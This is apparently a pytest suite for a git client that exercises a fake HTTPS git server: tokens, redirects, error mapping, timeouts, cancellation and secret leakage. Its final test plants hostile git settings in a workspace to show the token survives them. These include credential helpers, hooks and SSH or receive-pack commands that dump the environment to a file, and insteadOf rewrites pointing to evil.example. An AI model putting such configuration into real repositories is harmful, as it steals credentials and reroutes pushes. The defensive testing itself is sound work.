"""The git client against a real smart HTTPS server: credentials, failures, cancellation."""

from __future__ import annotations

import asyncio
import base64
import os
import signal
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from loguru import logger
from pydantic import SecretStr

from app.clients.git import ABSENT, Author, Credentials, GitClient
from app.errors import (
    ClientError,
    CredentialsRefused,
    GitFailed,
    NightshiftError,
    RefNotFound,
    RemoteStatus,
    RemoteTimeout,
    RemoteUnreachable,
    RepositoryNotFound,
)
from tests.fakes.git_server import Answer, GitServer
from tests.fakes.repositories import commit_files, git, make_bare, make_checkout, publish
from tests.fakes.tls import make_certificate

TOKEN = "s3cr3t-t0k3n/with+odd=chars%20"
USER = "x-access-token"
ADA = Author("Ada", "ada@example.org")
REPOSITORY = "team/app.git"


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_certificate(tmp_path_factory.mktemp("tls"))


@pytest.fixture(autouse=True)
def trust(certificate: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GIT_SSL_CAINFO", str(certificate))
    monkeypatch.setenv("NO_PROXY", "localhost,127.0.0.1")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """Where the server's repositories are; `team/app.git` has one commit."""
    checkout = make_checkout(tmp_path / "origin")
    commit_files(checkout, {"README.md": "# App\n"}, "First")
    publish(checkout, make_bare(tmp_path / "served" / REPOSITORY))
    return tmp_path / "served"


@pytest.fixture
def public(root: Path, certificate: Path) -> Iterator[GitServer]:
    with GitServer(root, certificate) as server:
        yield server


@pytest.fixture
def private(root: Path, certificate: Path) -> Iterator[GitServer]:
    with GitServer(root, certificate, users={USER: TOKEN, "reader": "r"}, readers=frozenset({"reader"})) as server:
        yield server


@pytest.fixture
def client_for(tmp_path: Path) -> Callable[..., GitClient]:
    def make(*credentials: Credentials, timeout_s: float = 30) -> GitClient:
        return GitClient(tmp_path / "mirrors", timeout_s=timeout_s, credentials=credentials)

    return make


def token_for(server: GitServer, token: str = TOKEN, username: str = USER) -> Credentials:
    return Credentials(server.host, SecretStr(token), username)


def basic(username: str, token: str) -> str:
    return "Basic " + base64.b64encode(f"{username}:{token}".encode()).decode()


async def test_a_public_repository_needs_no_credentials(
    public: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    cloned = await client_for().clone(public.url(REPOSITORY), tmp_path / "a")
    assert (cloned.workspace / "README.md").read_text() == "# App\n"
    assert cloned.url == public.url(REPOSITORY)


async def test_a_private_repository_is_cloned_committed_to_and_pushed_with_the_token(
    private: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    client = client_for(token_for(private))
    cloned = await client.clone(private.url(REPOSITORY), tmp_path / "a")
    commit = await client.commit(cloned.workspace, files={"x": b"x"}, message="X", author=ADA)
    pushed = await client.push(cloned.workspace, "work/x", expected_old_head=ABSENT)
    assert (pushed.head, pushed.created) == (commit.id, True)
    assert git(private.root / REPOSITORY, "rev-parse", "refs/heads/work/x") == commit.id
    used = {request.authorization for request in private.requests}
    assert used == {None, basic(USER, TOKEN)}


async def test_an_empty_repository_is_told_from_a_web_page(
    private: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    make_bare(private.root / "new.git")
    client = client_for(token_for(private))
    cloned = await client.clone(private.url("new.git"), tmp_path / "a")
    assert (cloned.empty, cloned.branch) == (True, "main")
    first = await client.commit(cloned.workspace, files={"x": b"x"}, message="First", author=ADA)
    await client.push(cloned.workspace, "main", expected_old_head=ABSENT)
    assert (await client.clone(private.url("new.git"), tmp_path / "b")).head == first.id


async def test_missing_credentials_fail_at_once_and_say_what_to_set(
    private: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    with pytest.raises(CredentialsRefused, match=f"NIGHTSHIFT_GIT_TOKEN_HOST={private.host}") as caught:
        await client_for().clone(private.url(REPOSITORY), tmp_path / "a")
    assert not caught.value.retryable


async def test_wrong_credentials_fail_at_once(
    private: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    with pytest.raises(CredentialsRefused, match="refuses NIGHTSHIFT_GIT_TOKEN") as caught:
        await client_for(token_for(private, "wr0ng")).clone(private.url(REPOSITORY), tmp_path / "a")
    assert "wr0ng" not in caught.value.detail
    assert basic(USER, "wr0ng") in {request.authorization for request in private.requests}


async def test_credentials_that_may_only_read_are_refused_at_the_push(
    private: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    client = client_for(token_for(private, "r", "reader"))
    cloned = await client.clone(private.url(REPOSITORY), tmp_path / "a")
    await client.commit(cloned.workspace, files={"x": b"x"}, message="X", author=ADA)
    with pytest.raises(CredentialsRefused):
        await client.push(cloned.workspace, "main")


async def test_a_token_of_another_host_is_not_sent(
    private: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    others = Credentials("localhost", SecretStr(TOKEN)), Credentials("127.0.0.1", SecretStr(TOKEN))
    with pytest.raises(CredentialsRefused):
        await client_for(*others).clone(private.url(REPOSITORY), tmp_path / "a")
    assert {request.authorization for request in private.requests} == {None}


async def test_the_token_is_not_taken_along_to_another_host(
    private: GitServer, root: Path, certificate: Path, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    with GitServer(root, certificate, users={USER: TOKEN}) as other:
        to = {"Location": f"https://{other.host}/{REPOSITORY}/info/refs?service=git-upload-pack"}
        private.answers[f"/{REPOSITORY}"] = Answer(302, to)
        with pytest.raises(ClientError):
            await client_for(token_for(private)).clone(private.url(REPOSITORY), tmp_path / "a")
        assert other.requests
        assert {request.authorization for request in other.requests} == {None}


async def test_a_redirect_on_the_same_host_is_followed(
    private: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    to = {"Location": f"https://{private.host}/{REPOSITORY}/info/refs?service=git-upload-pack"}
    private.answers["/team/old/info"] = Answer(301, to)
    assert not (await client_for(token_for(private)).clone(private.url("team/old"), tmp_path / "a")).empty


async def test_a_redirect_to_another_protocol_is_refused(
    public: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    mark = tmp_path / "served" / REPOSITORY
    public.answers["/"] = Answer(302, {"Location": f"http://{public.host}/x/info/refs?service=git-upload-pack"})
    with pytest.raises(ClientError):
        await client_for().clone(public.url("x"), tmp_path / "a")
    public.answers["/"] = Answer(302, {"Location": f"file://{mark}/info/refs?service=git-upload-pack"})
    with pytest.raises(ClientError):
        await client_for().clone(public.url("x"), tmp_path / "b")


@pytest.mark.parametrize(
    ("answer", "kind", "retryable"),
    [
        (Answer(401, {"WWW-Authenticate": 'Basic realm="git"'}), CredentialsRefused, False),
        (Answer(403), CredentialsRefused, False),
        (Answer(404), RepositoryNotFound, False),
        (Answer(429, {"Retry-After": "7"}), RemoteStatus, True),
        (Answer(500), RemoteStatus, True),
        (Answer(503), RemoteStatus, True),
        (Answer(200, {"Content-Type": "text/html"}, b"<html>\nSign in</html>\n"), RepositoryNotFound, False),
        (Answer(200, {"Content-Type": "text/html"}, b"<html>Sign in</html>"), RepositoryNotFound, False),
        (Answer(200), RepositoryNotFound, False),
    ],
)
async def test_answers_of_the_host_become_errors(
    public: GitServer,
    client_for: Callable[..., GitClient],
    tmp_path: Path,
    answer: Answer,
    kind: type[NightshiftError],
    retryable: bool,
) -> None:
    public.answers["/"] = answer
    with pytest.raises(kind, match="localhost") as caught:
        await client_for().clone(public.url(REPOSITORY), tmp_path / "a")
    assert caught.value.retryable is retryable
    assert isinstance(caught.value, ClientError)
    assert not (tmp_path / "a").exists()


async def test_a_repository_and_a_ref_that_are_not_there(
    public: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    with pytest.raises(RepositoryNotFound, match="team/other"):
        await client_for().clone(public.url("team/other.git"), tmp_path / "a")
    with pytest.raises(RefNotFound, match="nope"):
        await client_for().clone(public.url(REPOSITORY), tmp_path / "a", ref="nope")
    with pytest.raises(RefNotFound):
        await client_for().clone(public.url(REPOSITORY), tmp_path / "a", ref="1" * 40)


async def test_a_failure_in_the_middle_of_the_transfer_is_retryable(
    public: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    # The refs are listed, the pack is cut.
    pack = Answer(200, {"Content-Type": "application/x-git-upload-pack-result"}, b"000dpackfile\n0100\x01PACK")
    listing = asyncio.create_task(client_for().clone(public.url(REPOSITORY), tmp_path / "a", ref="v1"))
    with pytest.raises(RefNotFound):
        await listing
    public.fetches = pack
    with pytest.raises(ClientError) as caught:
        await client_for().clone(public.url(REPOSITORY), tmp_path / "a")
    assert caught.value.retryable
    public.fetches = None
    assert not (await client_for().clone(public.url(REPOSITORY), tmp_path / "a")).empty


async def test_a_host_that_is_not_there_is_unreachable(client_for: Callable[..., GitClient], tmp_path: Path) -> None:
    with pytest.raises(RemoteUnreachable, match="localhost:1"):
        await client_for().clone("https://localhost:1/a", tmp_path / "a")


async def test_a_host_whose_certificate_is_not_trusted_is_refused(
    public: GitServer, client_for: Callable[..., GitClient], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GIT_SSL_CAINFO", str(make_certificate(tmp_path)))
    with pytest.raises(GitFailed, match="certificate"):
        await client_for().clone(public.url(REPOSITORY), tmp_path / "a")


async def test_a_silent_host_runs_into_the_time_limit(
    public: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    public.hold("info/refs")
    with pytest.raises(RemoteTimeout, match=r"0\.3 s"):
        await client_for(timeout_s=0.3).clone(public.url(REPOSITORY), tmp_path / "a")
    await none_left(tmp_path)


def git_processes(home: Path) -> dict[int, str]:
    """The command lines of live processes whose HOME is below a directory: those of the client, and their children."""
    found = {}
    for path in Path("/proc").glob("[0-9]*"):
        try:
            environ = (path / "environ").read_bytes()
            if f"HOME={home}/".encode() in environ and (path / "cmdline").read_bytes():
                found[int(path.name)] = (path / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except (FileNotFoundError, ProcessLookupError, PermissionError):
            continue
    return found


async def test_cancelling_a_clone_ends_its_processes_and_leaves_nothing(
    private: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    held = private.hold("git-upload-pack")
    url = private.url(REPOSITORY)
    work = tmp_path / "work"
    task = asyncio.create_task(client_for(token_for(private)).clone(url, work / "a"))
    await held.reached()
    running = git_processes(tmp_path)
    assert any("git-remote-https" in line or "remote-https" in line for line in running.values())
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await none_left(tmp_path)
    assert not work.exists() or not list(work.iterdir())
    assert not list((tmp_path / "mirrors").rglob("*.partial"))


async def none_left(home: Path) -> None:
    async with asyncio.timeout(5):
        while git_processes(home):
            await asyncio.sleep(0.005)


async def test_a_worker_killed_in_the_middle_of_a_clone_does_not_stop_the_next_one(
    public: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    # What it leaves: a lock that the kernel released, a partial mirror, and a git process with nobody to end it.
    held = public.hold("git-upload-pack")
    url = public.url(REPOSITORY)
    program = (
        "import asyncio; from pathlib import Path; from app.clients.git import GitClient\n"
        f"asyncio.run(GitClient(Path({str(tmp_path / 'mirrors')!r})).clone({url!r}, Path({str(tmp_path / 'a')!r})))"
    )
    worker = await asyncio.create_subprocess_exec(sys.executable, "-c", program)
    await held.reached()
    worker.kill()
    await worker.wait()
    orphans = git_processes(tmp_path)
    held.release()
    cloned = await client_for().clone(url, tmp_path / "b")
    assert not cloned.empty
    for pid in orphans:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            continue
    await client_for().clone(url, tmp_path / "c")
    assert not list((tmp_path / "mirrors").rglob("*.partial"))


async def test_the_secret_is_found_nowhere(
    private: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    lines: list[str] = []
    sink = logger.add(lambda message: lines.append(str(message)), level=0)
    held = private.hold("git-receive-pack")
    client = client_for(token_for(private))
    cloned = await client.clone(private.url(REPOSITORY), tmp_path / "a")
    await client.commit(cloned.workspace, files={"x": b"x"}, message="X", author=ADA)
    push = asyncio.create_task(client.push(cloned.workspace, "main"))
    await held.reached()
    commands = list(git_processes(tmp_path).values())
    held.release()
    await push
    private.users[USER] = "another"
    with pytest.raises(CredentialsRefused) as caught:
        await client.clone(private.url(REPOSITORY), tmp_path / "b")
    logger.remove(sink)

    assert any("push" in command for command in commands)
    assert basic(USER, TOKEN) in {request.authorization for request in private.requests}
    encoded = base64.b64encode(f"{USER}:{TOKEN}".encode()).decode()
    for secret in (TOKEN, encoded):
        assert secret not in " ".join(commands)
        assert secret not in "".join(lines)
        assert secret not in repr(caught.value) + caught.value.detail + repr(client.__dict__) + repr(cloned)
        assert not [path for path in tmp_path.rglob("*") if path.is_file() and secret.encode() in path.read_bytes()]


async def test_the_secret_does_not_reach_code_that_a_workspace_was_made_to_run(
    private: GitServer, client_for: Callable[..., GitClient], tmp_path: Path
) -> None:
    client = client_for(token_for(private))
    work = (await client.clone(private.url(REPOSITORY), tmp_path / "a")).workspace
    leak = tmp_path / "leak"
    # As tests of a hostile repository could leave it behind.
    spy = f"!env >> {leak}; cat >> {leak}; :"
    settings = {
        "credential.helper": spy,
        f"credential.https://{private.host}.helper": spy,
        "core.sshCommand": f"env >> {leak};",
        "core.askPass": f"{tmp_path}/spy",
        "core.hooksPath": str(tmp_path / "hooks"),
        "http.proxy": "http://localhost:1",
        "http.sslVerify": "false",
        "url.https://evil.example/.insteadOf": f"https://{private.host}/",
        "url.https://evil.example/.pushInsteadOf": f"https://{private.host}/",
        "remote.origin.pushurl": "https://evil.example/x",
        "remote.origin.receivepack": f"env >> {leak};",
    }
    for key, value in settings.items():
        git(work, "config", key, value)
    hook = tmp_path / "hooks" / "pre-push"
    hook.parent.mkdir()
    hook.write_text(f"#!/bin/sh\nenv >> {leak}\n")
    hook.chmod(0o755)
    commit = await client.commit(work, files={"x": b"x"}, message="X", author=ADA)
    pushed = await client.push(work, "main")
    await client.rebase(work, "main", committer=ADA)
    assert git(private.root / REPOSITORY, "rev-parse", "main") == commit.id == pushed.head
    assert not leak.exists() or TOKEN not in leak.read_text()
